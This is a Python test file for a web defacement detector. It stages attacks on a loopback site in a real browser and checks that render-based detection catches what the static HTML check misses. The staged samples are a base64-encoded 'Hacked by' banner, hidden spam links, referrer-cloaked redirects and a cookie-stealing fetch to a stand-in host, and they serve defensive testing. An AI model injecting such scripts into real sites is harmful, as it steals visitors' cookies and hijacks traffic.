"""Through a real Chromium on loopback: what only the browser shows is detected by the render while the static
view (the same detector on the fetched HTML) misses it; a legitimate dynamic page raises nothing."""

from __future__ import annotations

import base64

import pytest
import requests

from govwatch.agents.defacement.detector import judge
from govwatch.agents.defacement.profile import learn

from .conftest import GOOD_JS, needs_chromium, png

pytestmark = [pytest.mark.slow, needs_chromium]


@pytest.fixture(scope="module")
def learned(sites, browser):
    """A render state that learned the good page from three renders, and the static profile of the same page."""
    from govwatch.collector.render.page import Renderer
    from govwatch.collector.render.state import SiteRender
    from govwatch.collector.render.visual import fingerprint

    site, url, _ = sites
    site.reset()
    state = SiteRender("moc", url)
    renderer = Renderer(browser, budget=30)
    for index in range(3):
        render = renderer.render(url)
        assert render.ok, render.error
        outcome = state.observe(render, fingerprint(render.screenshot), f"good-{index}")
        assert not outcome.verdict.defaced, outcome.verdict.reasons
    assert state.current == "clean"
    static = learn([requests.get(url, timeout=10).text for _ in range(3)], url)
    return state.to_dict(), static


def _render_and_static(sites, browser, learned):
    from govwatch.collector.render.page import Renderer
    from govwatch.collector.render.state import SiteRender
    from govwatch.collector.render.visual import fingerprint

    site, url, _ = sites
    saved, static = learned
    state = SiteRender.from_dict(saved, "moc", url)
    render = Renderer(browser, budget=30).render(url)
    assert render.ok, render.error
    verdict = state.observe(render, fingerprint(render.screenshot), "now").verdict
    html = requests.get(url, timeout=10)
    static_verdict = judge(static, html.text, html.url)
    return verdict, static_verdict


def _staged(sites, browser, learned, stage):
    site = sites[0]
    site.reset()
    try:
        stage(site, sites[2])
        return _render_and_static(sites, browser, learned)
    finally:
        site.reset()


def test_js_written_defacement(sites, browser, learned):
    banner = base64.b64encode(b"<h1>Hacked by Team Shadow</h1><p>Your security is a joke. Greetz to all crews</p>")
    verdict, static = _staged(sites, browser, learned, lambda site, _: site.put(
        "/app.js", f"document.write(atob('{banner.decode()}'));", "text/javascript"))
    assert not static.defaced, static.reasons
    assert verdict.defaced, verdict.reasons
    assert any("hacked by" in r.lower() for r in verdict.reasons), verdict.reasons


def test_dom_injected_spam_block(sites, browser, learned):
    links = "".join(f'<a href="https://cheap-pills-{i}.example/buy">cheap viagra casino slot {i}</a> '
                    for i in range(25))
    script = (GOOD_JS + "var d=document.createElement('div');d.style.position='absolute';d.style.left='-9999px';"
              f"d.innerHTML={links!r};document.body.appendChild(d);")
    verdict, static = _staged(sites, browser, learned, lambda site, _: site.put("/app.js", script, "text/javascript"))
    assert not static.defaced, static.reasons
    assert verdict.defaced, verdict.reasons


def test_referrer_only_redirect(sites, browser, learned):
    def stage(site, away):
        site.referrer_redirect = away + "/casino"

    verdict, static = _staged(sites, browser, learned, stage)
    assert not static.defaced, static.reasons
    assert verdict.defaced, verdict.reasons
    assert any("search engine" in r and "127.0.0.2" in r for r in verdict.reasons), verdict.reasons


def test_image_only_defacement(sites, browser, learned):
    verdict, static = _staged(sites, browser, learned, lambda site, _: site.put(
        "/hero.png", png((10, 10, 10), "HACKED BY TEAM SHADOW", (1280, 640)), "image/png"))
    assert not static.defaced, static.reasons
    assert verdict.defaced, verdict.reasons
    assert verdict.visual_difference is not None and verdict.visual_difference >= 0.5
    assert any("different from every known-good render" in r for r in verdict.reasons), verdict.reasons


def test_run_time_skimmer_domain(sites, browser, learned):
    def stage(site, away):
        site.put("/app.js", GOOD_JS + f"fetch('{away}/collect?c=' + encodeURIComponent(document.cookie), "
                 "{mode: 'no-cors'});", "text/javascript")

    verdict, static = _staged(sites, browser, learned, stage)
    assert not static.defaced, static.reasons
    assert verdict.defaced, verdict.reasons
    assert "127.0.0.2" in verdict.new_domains, verdict.new_domains


def test_script_referrer_redirect(sites, browser, learned):
    def stage(site, away):
        cloak = f"if (document.referrer.indexOf('google.') >= 0) location.replace('{away}/casino');"
        site.put("/app.js", GOOD_JS + cloak, "text/javascript")

    verdict, static = _staged(sites, browser, learned, stage)
    assert not static.defaced, static.reasons
    assert verdict.defaced and any("search engine" in r for r in verdict.reasons), verdict.reasons
